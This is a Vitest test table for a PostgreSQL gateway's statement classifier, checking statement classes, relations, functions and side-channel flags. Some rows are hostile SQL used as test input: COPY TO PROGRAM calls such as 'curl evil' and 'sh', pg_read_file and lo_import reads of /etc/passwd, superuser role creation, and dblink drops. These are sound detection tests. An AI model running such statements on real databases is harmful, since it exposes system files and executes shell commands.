import { beforeAll, describe, expect, it } from 'vitest';
import { classify, classifyUncached } from '../../../gateway/sql/classify.js';
import { loadSqlParser, splitStatements } from '../../../gateway/sql/parser.js';
import type { ClassifiedStatement, StatementClass, StatementFlag } from '../../../src/shared/statement.js';

beforeAll(async () => {
  await loadSqlParser();
});

/** What a row expects of the (single) statement: only the fields given are checked. */
interface Expect {
  relations?: string[];
  functions?: string[];
  flags?: StatementFlag[];
  sideChannels?: string[];
  kind?: string;
  unplaceable?: boolean;
}
type Row = [sql: string, cls: StatementClass, expect?: Expect];

const rows: Row[] = [
  // read
  ['select 1', 'read', { relations: [], functions: [], flags: [], sideChannels: [] }],
  ['SELECT * FROM orders', 'read', { relations: ['public.orders'] }],
  ['select * from Sales.Orders o', 'read', { relations: ['sales.orders'] }],
  ['select * from "Weird"."Name"', 'read', { relations: ['"Weird"."Name"'] }],
  [
    'select * from "secrets", "Secrets", Secrets',
    'read',
    { relations: ['public."Secrets"', 'public.secrets'] },
  ],
  ['select * from mydb.s.t', 'read', { relations: ['s.t'] }],
  ['values (1), (2)', 'read', { kind: 'SelectStmt', relations: [] }],
  ['table orders', 'read', { relations: ['public.orders'] }],
  ['show search_path', 'read', { kind: 'VariableShowStmt' }],
  ['show all', 'read'],
  ['select a.x, b.y from a join s.b on a.id = b.id', 'read', { relations: ['public.a', 's.b'] }],
  [
    'select * from a left join b using (id) full join c on true',
    'read',
    { relations: ['public.a', 'public.b', 'public.c'] },
  ],
  [
    'select * from a where id in (select id from b where x = (select max(x) from c))',
    'read',
    { relations: ['public.a', 'public.b', 'public.c'], functions: ['max'] },
  ],
  ['select exists (select 1 from secrets)', 'read', { relations: ['public.secrets'] }],
  ['select * from (select * from inner_t) sub', 'read', { relations: ['public.inner_t'] }],
  [
    'select * from a, lateral (select * from b where b.a = a.id) l',
    'read',
    { relations: ['public.a', 'public.b'] },
  ],
  [
    'select * from a union select * from b intersect select * from c',
    'read',
    { relations: ['public.a', 'public.b', 'public.c'] },
  ],
  ['select * from a except all select * from s.b', 'read', { relations: ['public.a', 's.b'] }],
  ['with x as (select * from t) select * from x', 'read', { relations: ['public.t'] }],
  ['with x as (select 1), y as (select * from x) select * from y, z', 'read', { relations: ['public.z'] }],
  ['WITH t AS (SELECT * FROM t) SELECT * FROM t', 'read', { relations: ['public.t'] }],
  ['with a as (select * from b), b as (select 1) select * from a', 'read', { relations: ['public.b'] }],
  [
    'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r',
    'read',
    { relations: [] },
  ],
  ['with x as (select 1) select * from public.x', 'read', { relations: ['public.x'] }],
  ['select * from (with x as (select 1) select * from x) s, x', 'read', { relations: ['public.x'] }],
  [
    'with x as (select * from t1) select (with y as (select * from x) select count(*) from y)',
    'read',
    { relations: ['public.t1'], functions: ['count'] },
  ],
  ['select * from v_customers', 'read', { relations: ['public.v_customers'] }],
  ['select now(), lower(name) from t order by upper(name)', 'read', { functions: ['lower', 'now', 'upper'] }],
  [
    'select * from t where id = abs(-1) group by md5(x) having count(*) > 1',
    'read',
    { functions: ['abs', 'count', 'md5'] },
  ],
  ['select pg_catalog.now()', 'read', { functions: ['pg_catalog.now'] }],
  ['select * from generate_series(1, 10) g', 'read', { functions: ['generate_series'], relations: [] }],
  ['select * from t, lateral unnest(t.arr) u', 'read', { functions: ['unnest'] }],
  ['select coalesce(a, b), greatest(1, 2) from t', 'read', { relations: ['public.t'] }],
  ['select sum(x) over (partition by y order by z) from t', 'read', { functions: ['sum'] }],
  ['select * from t for update', 'write', { flags: ['locking'] }],
  ['select * from t for share nowait', 'write', { flags: ['locking'] }],
  ['select * from t for no key update skip locked', 'write', { flags: ['locking'] }],
  ["select 'it''s', E'\\n', $$dollar$$, $tag$ nested $$ inner $$ $tag$", 'read', { relations: [] }],
  ["select U&'\\0041' from t", 'read', { relations: ['public.t'] }],
  ['select /* delete from t */ 1 -- ; drop table x', 'read', { relations: [] }],
  ["select 'drop table x; delete from y'", 'read', { relations: [] }],
  ['select $x$ ; delete from t; $x$', 'read', { relations: [] }],
  ['select "select" from "from"', 'read', { relations: ['public.from'] }],
  ['select * from t tablesample system (10)', 'read', { relations: ['public.t'] }],
  ['select row_to_json(t) from t', 'read', { functions: ['row_to_json'] }],
  ['select count(*) filter (where x > 1) from t', 'read', { functions: ['count'] }],
  ['select 1 where exists (select from pg_catalog.pg_class)', 'read', { relations: ['pg_catalog.pg_class'] }],
  ['select current_user, session_user', 'read'],
  ['select $1::int', 'read'],
  ['select * from json_to_recordset($1) as x(a int)', 'read', { functions: ['json_to_recordset'] }],
  ['fetch 10 from c', 'read', { kind: 'FetchStmt' }],
  ['move next in c', 'read'],
  ['close c', 'read', { kind: 'ClosePortalStmt' }],
  ['close all', 'read'],
  ['declare c cursor for select * from t', 'read', { kind: 'DeclareCursorStmt', relations: ['public.t'] }],
  ['declare c scroll cursor with hold for select * from t for update', 'write', { flags: ['locking'] }],
  ['explain select * from t', 'read', { relations: ['public.t'] }],
  ['explain delete from t', 'read', { relations: ['public.t'], flags: [] }],
  ['explain (analyze false) delete from t', 'read', { flags: [] }],
  ['explain (analyze off) update t set x = 1', 'read'],
  ['explain analyze select * from t', 'read', { flags: [] }],
  ['explain (analyze, buffers) select 1', 'read'],

  // write
  ['insert into t values (1)', 'write', { relations: ['public.t'] }],
  ['insert into s.t (a) select a from u', 'write', { relations: ['public.u', 's.t'] }],
  [
    'insert into t values (1) on conflict (id) do update set x = excluded.x',
    'write',
    { relations: ['public.t'] },
  ],
  ['insert into t default values returning id, now()', 'write', { functions: ['now'] }],
  ['update t set x = 1 where id = 2', 'write', { relations: ['public.t'] }],
  ['update t set x = u.x from u where t.id = u.id', 'write', { relations: ['public.t', 'public.u'] }],
  ['delete from t where id in (select id from u)', 'write', { relations: ['public.t', 'public.u'] }],
  ['delete from t using u where t.id = u.id', 'write', { relations: ['public.t', 'public.u'] }],
  [
    'merge into t using s on t.id = s.id when matched then update set x = s.x when not matched then insert values (s.id, s.x)',
    'write',
    { relations: ['public.s', 'public.t'], kind: 'MergeStmt' },
  ],
  [
    'with x as (delete from t returning *) select * from x',
    'write',
    { relations: ['public.t'], flags: ['data-modifying-cte'] },
  ],
  ['with x as (insert into t values (1) returning *) select 1', 'write', { flags: ['data-modifying-cte'] }],
  [
    'with x as (update t set a = 1 returning *) insert into log select * from x',
    'write',
    { relations: ['public.log', 'public.t'], flags: ['data-modifying-cte'] },
  ],
  ['with t as (select 1) delete from t', 'write', { relations: ['public.t'] }],
  ['with t as (select 1) insert into t select * from t', 'write', { relations: ['public.t'] }],
  [
    "select * from (values (1)) v where exists (select 1) and nextval('s') > 0",
    'write',
    { functions: ['nextval'] },
  ],
  ["select setval('seq', 10)", 'write'],
  ["select pg_notify('ch', 'x')", 'write'],
  ["select lo_from_bytea(0, 'x')", 'write'],
  ['notify ch', 'write', { kind: 'NotifyStmt' }],
  ["notify ch, 'payload'", 'write'],
  ['truncate t', 'write', { relations: ['public.t'] }],
  ['truncate table a, s.b restart identity cascade', 'write', { relations: ['public.a', 's.b'] }],
  ['refresh materialized view mv', 'write', { relations: ['public.mv'] }],
  ['explain analyze delete from t', 'write', { flags: ['explain-analyze-write'], relations: ['public.t'] }],
  ['explain (analyze true, format json) update t set a = 1', 'write', { flags: ['explain-analyze-write'] }],
  ['explain (analyze 1) insert into t values (1)', 'write', { flags: ['explain-analyze-write'] }],
  [
    'explain analyze with x as (delete from t returning 1) select * from x',
    'write',
    { flags: ['data-modifying-cte', 'explain-analyze-write'] },
  ],
  ['copy (delete from t returning *) to stdout', 'write', { relations: ['public.t'] }],
  ['copy (select * from t for update) to stdout', 'write', { relations: ['public.t'], flags: ['locking'] }],
  [
    'copy (with x as (delete from t returning *) select * from x) to stdout',
    'write',
    { flags: ['data-modifying-cte'] },
  ],

  // ddl
  [
    'create table t (id int primary key, x text default now()::text)',
    'ddl',
    { relations: ['public.t'], functions: ['now'] },
  ],
  ['create table s.t (a int references s.u (id))', 'ddl', { relations: ['s.t', 's.u'] }],
  ['create table t2 (like t1 including all)', 'ddl', { relations: ['public.t1', 'public.t2'] }],
  ['create temporary table tmp (a int)', 'ddl', { relations: ['pg_temp.tmp'] }],
  ['create table pg_temp.tmp2 (a int)', 'ddl', { relations: ['pg_temp.tmp2'] }],
  ['select * into temp t3 from t', 'ddl', { relations: ['pg_temp.t3', 'public.t'] }],
  [
    'create table p partition of parent for values in (1)',
    'ddl',
    { relations: ['public.p', 'public.parent'] },
  ],
  ['alter table t add column y int', 'ddl', { relations: ['public.t'] }],
  ['alter table t rename to u', 'ddl', { kind: 'RenameStmt' }],
  ['alter table t set schema s', 'ddl', { kind: 'AlterObjectSchemaStmt' }],
  ['alter table t disable trigger all', 'ddl'],
  ['drop table t', 'ddl', { relations: ['public.t'] }],
  ['drop table if exists a, s.b cascade', 'ddl', { relations: ['public.a', 's.b'] }],
  ['drop view v', 'ddl', { relations: ['public.v'] }],
  ['drop index s.i', 'ddl', { relations: ['s.i'] }],
  ['drop function f(int)', 'ddl'],
  ['drop schema s cascade', 'ddl'],
  ['create index on t (x)', 'ddl', { relations: ['public.t'] }],
  [
    'create unique index concurrently i on s.t using btree (lower(x))',
    'ddl',
    { relations: ['s.t'], functions: ['lower'] },
  ],
  ['create view v as select * from t', 'ddl', { relations: ['public.t', 'public.v'] }],
  [
    'create materialized view mv as select * from t',
    'ddl',
    { flags: ['select-into'], relations: ['public.mv', 'public.t'] },
  ],
  [
    'create table t2 as select * from t1',
    'ddl',
    { flags: ['select-into'], relations: ['public.t1', 'public.t2'] },
  ],
  ['select * into t2 from t1', 'ddl', { flags: ['select-into'], relations: ['public.t1', 'public.t2'] }],
  ['create schema s', 'ddl'],
  ['create sequence s.seq', 'ddl', { relations: ['s.seq'] }],
  ['alter sequence seq restart', 'ddl'],
  ["create function f() returns int language sql as 'select 1'", 'ddl'],
  ['create or replace procedure p() language plpgsql as $$ begin delete from t; end $$', 'ddl'],
  [
    'create function f() returns int begin atomic select count(*) from t; end',
    'ddl',
    { relations: ['public.t'] },
  ],
  ["create type mood as enum ('sad', 'ok')", 'ddl'],
  ['create type pair as (a int, b int)', 'ddl'],
  ['create domain posint as int check (value > 0)', 'ddl'],
  [
    'create trigger trg before insert on t for each row execute function f()',
    'ddl',
    { relations: ['public.t'] },
  ],
  ['create rule r as on insert to t do instead nothing', 'ddl', { relations: ['public.t'] }],
  ["comment on table t is 'x'", 'ddl'],
  ['create aggregate a (int) (sfunc = int4pl, stype = int)', 'ddl'],
  ['create cast (int as text) with inout', 'ddl'],
  ['create statistics st on a, b from t', 'ddl'],
  ["alter type mood add value 'meh'", 'ddl'],
  ['create foreign table ft (a int) server srv', 'ddl', { relations: ['public.ft'] }],

  // dcl
  ['grant select on t to r', 'dcl', { relations: ['public.t'] }],
  ['grant all on all tables in schema s to r', 'dcl'],
  ['revoke insert on s.t from public', 'dcl', { relations: ['s.t'] }],
  ['grant admin_role to bob', 'dcl', { kind: 'GrantRoleStmt' }],
  ['revoke admin_role from bob', 'dcl'],
  ['grant execute on function pg_read_file(text) to bob', 'dcl'],
  ['alter default privileges in schema s grant select on tables to r', 'dcl'],
  ["create role r login password 'x'", 'dcl'],
  ["create user u with password 'x' superuser", 'dcl'],
  ['alter role r superuser', 'dcl'],
  ['alter user u set search_path = s', 'dcl'],
  ['drop role r', 'dcl'],
  ['drop user if exists u', 'dcl'],
  ['alter role r rename to q', 'dcl', { kind: 'RenameStmt' }],
  ['alter table t owner to bob', 'dcl'],
  ['alter function f() owner to bob', 'dcl', { kind: 'AlterOwnerStmt' }],
  ['alter table t enable row level security', 'dcl'],
  ['alter table t no force row level security', 'dcl'],
  ['create policy p on t using (owner = current_user)', 'dcl', { relations: ['public.t'] }],
  ['drop policy p on t', 'dcl'],
  ['reassign owned by a to b', 'dcl'],
  ['drop owned by a', 'dcl'],
  ["security label on table t is 'x'", 'dcl'],

  // admin
  ["alter system set log_statement = 'all'", 'admin'],
  ['vacuum', 'admin'],
  ['vacuum full analyze t', 'admin', { relations: ['public.t'] }],
  ['analyze t', 'admin', { relations: ['public.t'] }],
  ['cluster t using i', 'admin', { relations: ['public.t'] }],
  ['reindex table t', 'admin', { relations: ['public.t'] }],
  ['checkpoint', 'admin'],
  ["load 'auto_explain'", 'admin'],
  ['create database d', 'admin'],
  ['alter database d set work_mem = 1', 'admin'],
  ['drop database d', 'admin'],
  ['alter database d rename to e', 'admin', { kind: 'RenameStmt' }],
  ["create tablespace ts location '/x'", 'admin'],
  ['drop tablespace ts', 'admin'],
  ['create extension dblink', 'admin'],
  ['alter extension e update', 'admin'],
  ['drop extension e', 'admin'],
  ['create server srv foreign data wrapper postgres_fdw', 'admin'],
  ["create user mapping for bob server srv options (user 'x', password 'y')", 'admin'],
  ['create event trigger et on ddl_command_start execute function f()', 'admin'],
  ['create publication pub for all tables', 'admin'],
  ["create subscription sub connection 'host=x' publication pub", 'admin'],
  ['drop subscription sub', 'admin'],
  ['create language plperl', 'admin'],

  // copy
  ['copy t to stdout', 'copy-out', { relations: ['public.t'], flags: [] }],
  [
    'copy (select * from t join u using (id)) to stdout with csv',
    'copy-out',
    { relations: ['public.t', 'public.u'] },
  ],
  ['copy t from stdin', 'copy-in', { relations: ['public.t'] }],
  ['copy s.t (a, b) from stdin with (format csv) where a > 1', 'copy-in', { relations: ['s.t'] }],
  ["copy t to '/tmp/x'", 'copy-out', { flags: ['copy-file', 'side-channel'], sideChannels: ['copy-file'] }],
  [
    "copy t from '/etc/passwd'",
    'copy-in',
    { flags: ['copy-file', 'side-channel'], sideChannels: ['copy-file'] },
  ],
  [
    "copy t to program 'curl evil'",
    'copy-out',
    { flags: ['copy-program', 'side-channel'], sideChannels: ['copy-program'] },
  ],
  ["COPY t FROM PROGRAM 'id'", 'copy-in', { sideChannels: ['copy-program'] }],
  ["copy (select 1) to program 'sh'", 'copy-out', { sideChannels: ['copy-program'] }],

  // session
  ['set work_mem = 1024', 'session', { flags: [], sideChannels: [] }],
  ["set application_name to 'x'", 'session', { sideChannels: [] }],
  ['set local statement_timeout = 0', 'session'],
  ['reset work_mem', 'session'],
  ['reset all', 'session'],
  [
    'set role admin',
    'session',
    { flags: ['security-setting', 'set-role', 'side-channel'], sideChannels: ['setting:role'] },
  ],
  ['SET ROLE "Admin"', 'session', { sideChannels: ['setting:role'] }],
  ['set local role admin', 'session', { flags: ['security-setting', 'set-role', 'side-channel'] }],
  ['set role none', 'session', { flags: [], sideChannels: [] }],
  ['reset role', 'session', { flags: [], sideChannels: [] }],
  [
    "set session authorization 'bob'",
    'session',
    {
      flags: ['security-setting', 'set-role', 'side-channel'],
      sideChannels: ['setting:session_authorization'],
    },
  ],
  ['set session authorization default', 'session', { sideChannels: [] }],
  // search_path is followed by the session and resolves names: an ordinary setting, not a side channel.
  ['set search_path = s, public', 'session', { flags: [], sideChannels: [] }],
  [
    'set session_replication_role = replica',
    'session',
    { sideChannels: ['setting:session_replication_role'] },
  ],
  ['set transaction isolation level serializable', 'session'],
  ['set session characteristics as transaction read only', 'session'],
  ['discard all', 'session'],
  ['discard plans', 'session'],
  ['listen ch', 'session', { kind: 'ListenStmt' }],
  ['unlisten *', 'session'],
  ['deallocate p', 'session'],
  ['deallocate all', 'session'],

  // transaction
  ['begin', 'transaction'],
  ['begin isolation level repeatable read read only', 'transaction'],
  ['start transaction', 'transaction'],
  ['commit', 'transaction'],
  ['end', 'transaction'],
  ['rollback', 'transaction'],
  ['abort', 'transaction'],
  ['savepoint s1', 'transaction'],
  ['release savepoint s1', 'transaction'],
  ['rollback to savepoint s1', 'transaction'],
  ["prepare transaction 'x'", 'transaction'],
  ["commit prepared 'x'", 'transaction'],
  ["rollback prepared 'x'", 'transaction'],
  ['set constraints all deferred', 'transaction'],

  // procedural
  ['do $$ begin perform 1; end $$', 'procedural', { flags: ['dynamic-sql'] }],
  [
    "do language plpgsql $body$ begin execute 'drop table t'; end $body$",
    'procedural',
    { flags: ['dynamic-sql'] },
  ],
  ['call p(1)', 'procedural', { functions: ['p'] }],
  ['call s.p(now())', 'procedural', { functions: ['now', 's.p'] }],

  // utility
  ['lock table t in access exclusive mode', 'write', { relations: ['public.t'], flags: ['locking'] }],
  ['lock s.a, b', 'write', { relations: ['public.b', 's.a'] }],
  // pg_dump's lock: what every SELECT takes.
  ['lock table public.t in access share mode', 'read', { relations: ['public.t'], flags: ['locking'] }],
  ['lock table t in row share mode', 'write', { flags: ['locking'] }],

  // prepared statements
  ['prepare p as select * from t', 'read', { flags: ['prepare'], relations: ['public.t'] }],
  ['prepare p (int) as delete from t where id = $1', 'write', { flags: ['prepare'] }],
  ['execute p', 'utility', { flags: ['dynamic-sql', 'execute'], unplaceable: true }],
  ["execute p(pg_read_file('x'))", 'utility', { sideChannels: ['pg_read_file'], unplaceable: true }],
  ['explain analyze execute p', 'utility', { unplaceable: true }],
  ['explain execute p', 'read'],

  // side channels
  ["select pg_read_file('/etc/passwd')", 'read', { flags: ['side-channel'], sideChannels: ['pg_read_file'] }],
  [
    "select pg_catalog.pg_read_file('/etc/passwd')",
    'read',
    { functions: ['pg_catalog.pg_read_file'], sideChannels: ['pg_read_file'] },
  ],
  ["select PG_CATALOG.PG_READ_BINARY_FILE('x')", 'read', { sideChannels: ['pg_read_binary_file'] }],
  ["select * from pg_ls_dir('.')", 'read', { sideChannels: ['pg_ls_dir'] }],
  ['select pg_ls_waldir()', 'read', { sideChannels: ['pg_ls_waldir'] }],
  ["select pg_stat_file('x')", 'read', { sideChannels: ['pg_stat_file'] }],
  ["select lo_import('/etc/passwd')", 'read', { sideChannels: ['lo_import'] }],
  ["select lo_export(1, '/tmp/x')", 'read', { sideChannels: ['lo_export'] }],
  [
    "select * from dblink('host=x', 'delete from t') as r(a int)",
    'read',
    { sideChannels: ['dblink'], flags: ['dynamic-sql', 'side-channel'] },
  ],
  ["select dblink_exec('drop table t')", 'read', { sideChannels: ['dblink_exec'] }],
  ["select public.dblink_connect('c')", 'read', { sideChannels: ['dblink_connect'] }],
  ['select pg_terminate_backend(123)', 'read', { sideChannels: ['pg_terminate_backend'] }],
  [
    'select pg_cancel_backend(pid) from pg_stat_activity',
    'read',
    { sideChannels: ['pg_cancel_backend'], relations: ['public.pg_stat_activity'] },
  ],
  ['select pg_reload_conf()', 'read', { sideChannels: ['pg_reload_conf'] }],
  ['select pg_rotate_logfile()', 'read', { sideChannels: ['pg_rotate_logfile'] }],
  [
    "select * from pg_logical_slot_get_changes('s', null, null)",
    'read',
    { sideChannels: ['pg_logical_slot_get_changes'] },
  ],
  [
    "select query_to_xml('select * from secrets', true, true, '')",
    'read',
    { sideChannels: ['query_to_xml'], flags: ['dynamic-sql', 'side-channel'] },
  ],
  ["select table_to_xml('secrets', true, true, '')", 'read', { sideChannels: ['table_to_xml'] }],
  [
    "select set_config('role', 'admin', false)",
    'session',
    { flags: ['security-setting', 'set-role', 'side-channel'], sideChannels: ['setting:role'] },
  ],
  // set_config obeys SET's rules: class session (pg_dump runs this one).
  ["select pg_catalog.set_config('search_path', '', false)", 'session', { sideChannels: [] }],
  [
    "select set_config('session_authorization'::text, 'bob', true)",
    'session',
    { sideChannels: ['setting:session_authorization'] },
  ],
  [
    "select set_config(name, 'x', false) from t",
    'session',
    { flags: ['security-setting', 'side-channel'], sideChannels: ['set_config'] },
  ],
  ["select set_config('application_name', 'x', false)", 'session', { flags: [], sideChannels: [] }],
  // pg_dump: the WHERE pins which setting the row's name can be.
  [
    "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
    'session',
    { flags: [], sideChannels: [] },
  ],
  [
    "SELECT set_config(s.name, 'x', false) FROM pg_catalog.pg_settings s WHERE s.name = 'role' AND true",
    'session',
    { sideChannels: ['setting:role'] },
  ],
  [
    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' OR name = 'role'",
    'session',
    { sideChannels: ['set_config'] },
  ],
  [
    "SELECT set_config(name, 'x', false) FROM my_settings WHERE name = 'a'",
    'session',
    { sideChannels: ['set_config'] },
  ],
  ["select * from t where x = (select pg_read_file('f'))", 'read', { sideChannels: ['pg_read_file'] }],
  ["select 1 order by pg_read_file('f')", 'read', { sideChannels: ['pg_read_file'] }],
  ["create table t (a text default pg_read_file('f'))", 'ddl', { sideChannels: ['pg_read_file'] }],
  ["insert into t select pg_read_file('f')", 'write', { sideChannels: ['pg_read_file'] }],
  ["with x as (select pg_ls_dir('.') d) select * from x", 'read', { sideChannels: ['pg_ls_dir'] }],
  ["explain select pg_read_file('x')", 'read', { sideChannels: ['pg_read_file'] }],
];

describe('classify: one statement at a time', () => {
  it.each(rows)('%s -> %s', (sql, cls, expected = {}) => {
    const result = classify(sql);
    if (!result.ok) throw new Error(`did not parse: ${result.error}`);
    expect(result.statements).toHaveLength(1);
    const stmt = result.statements[0]!;
    expect(stmt.class).toBe(cls);
    if (expected.relations) expect(stmt.relations).toEqual(expected.relations);
    if (expected.functions) expect(stmt.functions).toEqual(expected.functions);
    if (expected.flags) expect(stmt.flags).toEqual([...expected.flags].sort());
    if (expected.sideChannels) expect(stmt.sideChannels).toEqual(expected.sideChannels);
    if (expected.kind) expect(stmt.kind).toBe(expected.kind);
    expect(Boolean(stmt.unplaceable)).toBe(expected.unplaceable ?? false);
    expect(stmt.fingerprint).toMatch(/^[0-9a-f]{16}$/);
  });

  it('has a large table', () => {
    expect(rows.length).toBeGreaterThanOrEqual(150);
  });
});

describe('classify: multi-statement strings', () => {
  it('classifies each statement on its own, with its own text', () => {
    const result = classify('select 1; delete from t where a = 1;  /* c */ insert into u values (2)');
    expect(result.ok).toBe(true);
    const statements = (result as { statements: ClassifiedStatement[] }).statements;
    expect(statements.map((s) => s.class)).toEqual(['read', 'write', 'write']);
    expect(statements.map((s) => s.text)).toEqual([
      'select 1',
      'delete from t where a = 1',
      '/* c */ insert into u values (2)',
    ]);
  });

  it('slices on bytes: multibyte text before a statement does not shift the next one', () => {
    const result = classify("select 'héllo ✓ 😀'; select * from café");
    if (!result.ok) throw new Error(result.error);
    expect(result.statements.map((s) => s.text)).toEqual(["select 'héllo ✓ 😀'", 'select * from café']);
    expect(result.statements[1]!.relations).toEqual(['public."café"']);
  });

  it('a semicolon in a string, a dollar quote or a comment does not split', () => {
    const result = classify("select ';', $$;$$, $a$ $b$;$b$ $a$ -- ;\n; select 2");
    if (!result.ok) throw new Error(result.error);
    expect(result.statements).toHaveLength(2);
  });

  it('splitStatements returns each statement text', () => {
    expect(splitStatements('begin; update t set a = 1; commit;')).toEqual([
      'begin',
      'update t set a = 1',
      'commit',
    ]);
  });

  it('empty text and comment-only text have no statements', () => {
    expect(classify('')).toEqual({ ok: true, statements: [] });
    expect(classify('   \n ')).toEqual({ ok: true, statements: [] });
    expect(classify('-- nothing')).toEqual({ ok: true, statements: [] });
    expect(classify(';;')).toEqual({ ok: true, statements: [] });
  });
});

describe('classify: bad input never throws and is ok:false', () => {
  const garbage = [
    'selec 1',
    'select from where',
    "select 'unterminated",
    'select $$unterminated',
    'select 1; delete',
    '\u0000',
    ')))(((',
    'drop',
    '😀😀😀',
    "E'\\x'",
    'select ' + '('.repeat(5000) + '1' + ')'.repeat(5000),
    'select 1 ' + 'union select 1 '.repeat(2000),
  ];
  it.each(garbage.map((g) => [g.slice(0, 40), g]))('%s', (_label, sql) => {
    let result: ReturnType<typeof classify> | undefined;
    expect(() => {
      result = classify(sql);
    }).not.toThrow();
    if (result!.ok) {
      // Deeply nested but valid SQL may parse: then it must still be placed.
      for (const s of result!.statements) expect(s.class).toBeTruthy();
    } else {
      expect(result!.error).toBeTruthy();
    }
  });

  it('a syntax error anywhere fails the whole text', () => {
    const result = classify('select 1; selec 2');
    expect(result.ok).toBe(false);
  });
});

describe('fingerprint', () => {
  const fp = (sql: string) => {
    const r = classify(sql);
    if (!r.ok) throw new Error(r.error);
    return r.statements[0]!.fingerprint;
  };
  it('is the same for the same shape with other constants and spacing', () => {
    expect(fp("select * from t where id = 1 and name = 'a'")).toBe(
      fp("SELECT *   FROM t WHERE id = 42 AND name = 'bob'"),
    );
  });
  it('differs for another shape', () => {
    expect(fp('select * from t where id = 1')).not.toBe(fp('select * from u where id = 1'));
    expect(fp('select a from t')).not.toBe(fp('select b from t'));
  });
});

describe('cache', () => {
  it('returns the same result object for a text used again', () => {
    classify('select * from cached_t');
    const a = classify('select * from cached_t');
    expect(classify('select * from cached_t')).toBe(a);
    expect(classifyUncached('select * from cached_t')).not.toBe(a);
    expect(classifyUncached('select * from cached_t')).toEqual(a);
  });

  it('keeps a text used once out of the cache, so one-off texts push nothing out', () => {
    const once = classify('select * from cached_t where id = 7');
    expect(classify('select * from cached_t where id = 7')).not.toBe(once);
  });
});
